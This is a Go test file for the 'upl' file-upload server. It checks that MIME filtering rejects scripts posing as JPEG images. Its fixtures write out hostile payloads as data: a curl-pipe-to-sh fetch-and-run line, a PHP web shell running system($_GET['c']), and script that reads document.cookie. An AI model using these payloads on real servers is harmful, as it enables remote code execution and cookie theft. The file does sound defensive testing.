@@ -0,0 +1,127 @@
+// upl
+//
+// Copyright 2021 Nicolas Thauvin. All rights reserved.
+//
+// Redistribution and use in source and binary forms, with or without
+// modification, are permitted provided that the following conditions
+// are met:
+//
+//  1. Redistributions of source code must retain the above copyright
+//     notice, this list of conditions and the following disclaimer.
+//  2. Redistributions in binary form must reproduce the above copyright
+//     notice, this list of conditions and the following disclaimer in the
+//     documentation and/or other materials provided with the distribution.
+//
+// THIS SOFTWARE IS PROVIDED BY THE AUTHORS ``AS IS'' AND ANY EXPRESS OR
+// IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED WARRANTIES
+// OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE DISCLAIMED.
+// IN NO EVENT SHALL THE AUTHORS OR CONTRIBUTORS BE LIABLE FOR ANY DIRECT,
+// INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL DAMAGES
+// (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR SERVICES;
+// LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER CAUSED AND
+// ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY, OR TORT
+// (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE OF
+// THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+
+package main
+
+import (
+	"errors"
+	"github.com/labstack/echo/v4"
+	"net/http"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+// Contents of files given a .jpg extension: a real JPEG header, and scripts
+// or pages posing as images
+const (
+	jpegData   = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+	shellData  = "#!/bin/sh\ncurl http://example.com/x | sh\n"
+	htmlData   = "<html><script>alert(document.cookie)</script></html>"
+	phpData    = "<?php system($_GET['c']); ?>"
+	scriptData = "<script>alert(1)</script>"
+)
+
+func TestParseMimeList(t *testing.T) {
+	got, err := parseMimeList(" image/* , Application/PDF,,text/plain")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"image/*", "application/pdf", "text/plain"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+
+	for _, bad := range []string{"image", "/*", "*/*/*", "image/*/x"} {
+		if _, err := parseMimeList(bad); err == nil {
+			t.Errorf("invalid media type %q accepted", bad)
+		}
+	}
+}
+
+func TestCheckMime(t *testing.T) {
+	tests := []struct {
+		allow string
+		data  string
+		ok    bool
+	}{
+		{"image/*", jpegData, true},
+		{"image/jpeg", jpegData, true},
+		{"image/png", jpegData, false},
+		{"image/*", shellData, false},
+		{"image/*", htmlData, false},
+		{"image/*", phpData, false},
+		{"image/*", scriptData, false},
+		{"image/*", "", false},
+		{"text/plain", shellData, true},
+		{"text/*", htmlData, true},
+		{"text/plain", htmlData, false},
+	}
+
+	for _, tt := range tests {
+		conf := newConfig()
+		var err error
+		if conf.AllowMime, err = parseMimeList(tt.allow); err != nil {
+			t.Fatal(err)
+		}
+
+		err = checkMime(conf, "photo.jpg", []byte(tt.data))
+		if (err == nil) != tt.ok {
+			t.Errorf("allow=%s %q: got error %v", tt.allow, tt.data, err)
+		}
+		var he *echo.HTTPError
+		if err != nil && (!errors.As(err, &he) || he.Code != http.StatusUnsupportedMediaType) {
+			t.Errorf("allow=%s %q: got error %v, want the 415 status", tt.allow, tt.data, err)
+		}
+	}
+}
+
+func TestUploadDisguisedScript(t *testing.T) {
+	for _, stream := range []bool{false, true} {
+		conf := testConfig(t)
+		conf.AllowMime = []string{"image/*"}
+		conf.StreamUploads = stream
+		ts := testServer(t, conf)
+
+		for _, data := range []string{shellData, htmlData, phpData} {
+			res := postFiles(t, ts.URL+"/api/upload", conf.UploadField, []testPart{{filename: "photo.jpg", data: data}}, nil)
+			if res.StatusCode != http.StatusUnsupportedMediaType {
+				t.Errorf("stream=%v %q: got status %d", stream, data, res.StatusCode)
+			}
+			if _, err := os.Stat(filepath.Join(conf.StoreDir, "photo.jpg")); err == nil {
+				t.Fatalf("stream=%v %q: stored", stream, data)
+			}
+		}
+
+		// The bytes read to detect the type are stored with the rest
+		res := postFiles(t, ts.URL+"/api/upload", conf.UploadField, []testPart{{filename: "photo.jpg", data: jpegData}}, nil)
+		if res.StatusCode != http.StatusCreated {
+			t.Errorf("stream=%v: got status %d for a JPEG image", stream, res.StatusCode)
+		}
+		if got := readStoreFile(t, conf, "photo.jpg"); got != jpegData {
+			t.Errorf("stream=%v: got %q", stream, got)
+		}
+	}
+}